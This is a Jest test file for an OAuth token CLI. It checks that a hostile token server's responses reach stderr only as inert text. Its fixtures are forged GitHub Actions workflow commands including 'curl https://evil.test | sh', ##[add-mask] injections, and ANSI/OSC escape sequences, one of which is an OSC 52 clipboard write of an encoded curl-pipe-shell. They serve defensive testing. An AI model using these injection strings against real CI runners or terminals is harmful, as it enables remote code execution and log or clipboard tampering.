/**
 * CLI (issue #10, items 2 and 3): what a hostile server sends (workflow commands in an
 * `error_description`, a content type carrying `##[add-mask]`, forged field names,
 * ANSI/OSC escapes) reaches stderr, `--verbose` lines included, only as inert text: a
 * GitHub runner running the CLI reads no command from it, a terminal no escape.
 */
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { expectInert } from '../helpers/inert.js';
import { startTokenServer, type TokenServer } from '../helpers/token-server.js';
import { runCli, stderrLines, type CliRun } from './run-cli.js';

const FORGED = '\n::error title=Forged::run curl https://evil.test | sh\n::stop-commands::x';
const ESCAPES = '\x1b[31mred\x1b[0m \x1b]8;;https://evil.test\x07link\x1b]8;;\x07 \x1b]52;c;Y3VybCBldmlsfHNo\x07';
const FORGED_SHOWN = '::error title=Forged::run curl https://evil.test | sh ::stop-commands::x';
const env = { OAUTH_CLIENT_ID: 'hostile-client', OAUTH_CLIENT_SECRET: 'hostile-secret-0123456789', OAUTH_RETRIES: '0' };
let server: TokenServer;
const runs: Record<string, CliRun> = {};

beforeAll(async () => {
  server = await startTokenServer((request) => {
    switch (request.url) {
      case '/description':
        return { status: 400, json: { error: 'invalid_grant##[error]forged', error_description: `##[add-mask]Bearer ${ESCAPES}${FORGED}` } };
      case '/content-type':
        return { headers: { 'content-type': 'text/html; x="##[add-mask]Bearer"' }, text: '<html></html>' };
      default:
        return { json: { token_type: 'Bearer', '##[error]forged': 1, [`x${FORGED}`]: 2 } };
    }
  });
  for (const path of ['description', 'content-type', 'fields']) runs[path] = await runCli(['--verbose', '--token-url', `${server.origin}/${path}`], env);
});
afterAll(() => server.close());

const posted = (path: string) => `oauth-token: POST ${server.origin}/${path}: grant client_credentials, client auth client_secret_basic, form body`;

test('error and error_description: one inert line, escapes removed', () => {
  expect(runs.description!.code).toBe(1);
  expect(stderrLines(runs.description!)).toEqual([
    posted('description'),
    'oauth-token: Token endpoint answered HTTP 400 (application/json) after 1 attempt(s)',
    `oauth-token: Token endpoint answered HTTP 400: invalid_grant# #[error]forged: # #[add-mask]Bearer red link ${FORGED_SHOWN}`
  ]);
});

test('a content type carrying ##[add-mask]: inert in the --verbose line and the failure', () => {
  expect(runs['content-type']!.code).toBe(1);
  expect(stderrLines(runs['content-type']!)).toEqual([
    posted('content-type'),
    'oauth-token: Token endpoint answered HTTP 200 (text/html; x="# #[add-mask]Bearer") after 1 attempt(s)',
    'oauth-token: Token endpoint answered HTTP 200 with text/html that is not a JSON object',
    'oauth-token: Hint: token-url does not look like a token endpoint: check its path (the token endpoint, often ending in /token), or give issuer to discover it; a web page may also come from a sign-in page or proxy in front of it'
  ]);
});

test('field names of an answer without access_token: inert, their line breaks shown escaped', () => {
  expect(runs.fields!.code).toBe(1);
  expect(stderrLines(runs.fields!).at(-1)).toBe(
    'oauth-token: Token endpoint answered HTTP 200 but the response has no access_token (fields: token_type, # #[error]forged, x\\u000a::error title=Forged::run curl https://evil.test | sh\\u000a::stop-commands::x)'
  );
});

test('nothing on stdout, and nothing a runner or a terminal would obey on stderr', () => {
  for (const [name, run] of Object.entries(runs)) {
    expect({ name, stdout: run.stdout }).toEqual({ name, stdout: '' });
    expectInert(name, run.stderr);
  }
});
